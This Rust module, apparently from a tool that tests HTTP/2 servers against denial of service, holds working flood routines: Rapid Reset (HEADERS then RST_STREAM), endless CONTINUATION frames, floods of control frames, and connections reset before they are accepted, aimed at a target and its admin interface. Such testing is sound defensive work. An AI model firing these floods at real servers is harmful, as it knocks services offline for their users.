//! As much as is taken, as fast as it is taken.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use super::{Attack, Toll, pause, together};
use crate::frame::{
    CANCEL, CONTINUATION, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, STREAM_MAX, WHOLE, WINDOW_UPDATE, field,
    frame, get,
};
use crate::peer::Peer;

/// Threads of an attack that sends as much as it can.
const FLOODERS: usize = 2;
/// Connections that are reset before they are accepted come in bursts, as an accept loop that sleeps is hit hardest.
const RESET_BURST: usize = 100;
const RESET_PAUSE: Duration = Duration::from_millis(50);

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid_reset",
        about: "HTTP/2 requests, each followed by its RST_STREAM, as fast as they are taken",
        run: |target| flood(target.at, "streams", reset_at_once),
        ..Attack::DEFAULT
    },
    Attack {
        name: "continuation_flood",
        about: "header blocks that do not end, in CONTINUATION frames as fast as they are taken",
        run: |target| flood(target.at, "CONTINUATION frames", continue_for_ever),
        ..Attack::DEFAULT
    },
    Attack {
        name: "control_frame_flood",
        about: "SETTINGS, PING, PRIORITY and WINDOW_UPDATE frames as fast as they are taken",
        run: |target| flood(target.at, "control frames", send_control_frames),
        ..Attack::DEFAULT
    },
    Attack {
        name: "connects_reset_before_accept",
        about: "connections that are closed with RST at once, in two threads' bursts of 100 each 50 ms",
        run: |target| connect_and_reset(target.at),
        ..Attack::DEFAULT
    },
    Attack {
        name: "admin_connects_reset_before_accept",
        about: "the same to the admin interface",
        run: |target| connect_and_reset(target.admin),
        ..Attack::DEFAULT
    },
];

fn flood(at: SocketAddr, unit: &str, send: fn(&mut Peer, Instant) -> usize) -> Toll {
    let sent = together(FLOODERS, |until| {
        let mut sent = 0;
        while Instant::now() < until {
            let Ok(mut peer) = Peer::http2(at, &[]) else { continue };
            sent += send(&mut peer, until);
        }
        sent
    });
    Toll { told: format!("{sent} {unit}"), ..Toll::default() }
}

fn reset_at_once(peer: &mut Peer, until: Instant) -> usize {
    const BATCH: u32 = 50;
    let mut sent = 0;
    for first in (1..STREAM_MAX).step_by(2 * BATCH as usize) {
        let streams = (0..BATCH).map(|number| first + 2 * number);
        let both =
            |stream| [frame(HEADERS, WHOLE, stream, &get(b"/")), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())];
        let batch: Vec<u8> = streams.flat_map(both).flatten().collect();
        if Instant::now() >= until || peer.send(&batch, until).is_err() {
            break;
        }
        sent += BATCH as usize;
    }
    sent
}

fn continue_for_ever(peer: &mut Peer, until: Instant) -> usize {
    // One field fills a frame: 11 bytes, and a value of 2^14 - 11 (RFC 7541 5.1).
    let filler = field(b"x-long", &[b'x'; (1 << 14) - 11]);
    let mut sent = 0;
    let mut next = frame(HEADERS, 1, 1, &get(b"/"));
    while Instant::now() < until && peer.send(&next, until).is_ok() {
        next = frame(CONTINUATION, 0, 1, &filler);
        sent += 1;
    }
    sent
}

fn send_control_frames(peer: &mut Peer, until: Instant) -> usize {
    const BATCH: usize = 50;
    let some = [
        frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
        frame(PING, 0, 0, &[0; 8]),
        frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
        frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    ];
    let batch = some.concat().repeat(BATCH);
    let mut sent = 0;
    while Instant::now() < until && peer.send(&batch, until).is_ok() {
        sent += BATCH * some.len();
    }
    sent
}

fn connect_and_reset(at: SocketAddr) -> Toll {
    let sent = together(FLOODERS, |until| {
        let mut sent = 0;
        while Instant::now() < until {
            sent += (0..RESET_BURST).filter(|_| Peer::connect(at).and_then(Peer::reset).is_ok()).count();
            pause(until, RESET_PAUSE);
        }
        sent
    });
    Toll { told: format!("{sent} connections"), ..Toll::default() }
}
